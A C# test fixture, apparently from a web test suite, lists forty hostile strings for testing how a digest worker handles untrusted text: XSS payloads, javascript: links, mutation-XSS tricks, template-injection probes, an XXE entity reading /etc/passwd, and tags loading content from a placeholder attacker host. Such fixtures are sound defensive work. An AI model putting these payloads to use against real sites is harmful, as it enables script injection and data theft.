namespace DigestWorker.Tests.Web;

/// <summary>Forty texts that would like to be more than text.</summary>
internal static class HostileTexts
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>",
        "</h2></article><script src=https://evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "` onload=`alert(1)`",
        "<a href=\"javascript:alert(1)\">read on</a>",
        "[a link](javascript:alert(1))",
        "![a picture](https://evil.example/x.png)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<style>*{display:none}</style>",
        "<form action=\"https://evil.example\"><input name=key>",
        "<button formaction=\"javascript:alert(1)\">press</button>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!-- --><script>alert(1)</script><!--",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "＜script＞alert(1)＜/script＞",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<p style=\"background:url(https://evil.example/x.png)\">",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} @Html.Raw(x) @{ }",
        "</title></head><body onload=alert(1)>",
        "</textarea></select></main><marquee onstart=alert(1)>",
    ];
}
